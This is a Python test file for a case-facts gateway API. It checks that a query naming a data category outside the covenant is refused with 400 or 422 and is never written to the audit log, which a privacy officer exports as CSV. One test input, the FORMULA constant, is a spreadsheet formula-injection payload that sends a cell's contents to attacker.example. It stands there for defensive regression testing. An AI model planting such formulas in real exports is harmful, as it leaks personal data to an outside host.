"""``POST /v1/case-facts/queries`` takes only the covenant's data categories, as a request does:
another string is a bad query (422), decided by nobody and written nowhere. Before (review2
#9), any string was redacted as ``unknown-category`` and written, as it came, into the audit
log, which is never erased and which the privacy officer exports as CSV: a team member
planted ``=HYPERLINK(...)`` there, or a name or a BSN."""

from __future__ import annotations

import httpx
import pytest
from sqlalchemy import func, select

from gateway.audit.models import AuditRecord
from gateway.context import GatewayContext
from tests.exchange.conftest import CASE_MANAGER, REPORTS, UtrechtCase

FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Bekijk")'


def _entries(context: GatewayContext) -> int:
    with context.session_factory() as session:
        return session.scalar(select(func.count()).select_from(AuditRecord)) or 0


def _query(case: UtrechtCase, category: str) -> httpx.Response:
    return case.client.post(
        "/v1/case-facts/queries",
        json={"caseId": case.case_id, "purpose": "case-handling", "categories": [category]},
        headers=case.as_(CASE_MANAGER),
    )


@pytest.mark.parametrize(
    ("category", "status"),
    [
        (FORMULA, 400),  # not a category id at all: invalid parameters
        ("Jan Jansen", 400),
        ("no-such-category", 422),  # an id the covenant does not have: as a request
        ("123456782", 422),
    ],
)
def test_a_category_the_covenant_does_not_have_is_refused_and_written_nowhere(
    utrecht_case: UtrechtCase, context: GatewayContext, category: str, status: int
) -> None:
    before = _entries(context)
    response = _query(utrecht_case, category)
    assert response.status_code == status, response.text
    assert category not in response.text or status == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    assert _entries(context) == before
    # The control: a category of the covenant is decided, and the decision is logged.
    taken = _query(utrecht_case, REPORTS)
    assert taken.status_code == 200, taken.text
    assert _entries(context) == before + 1
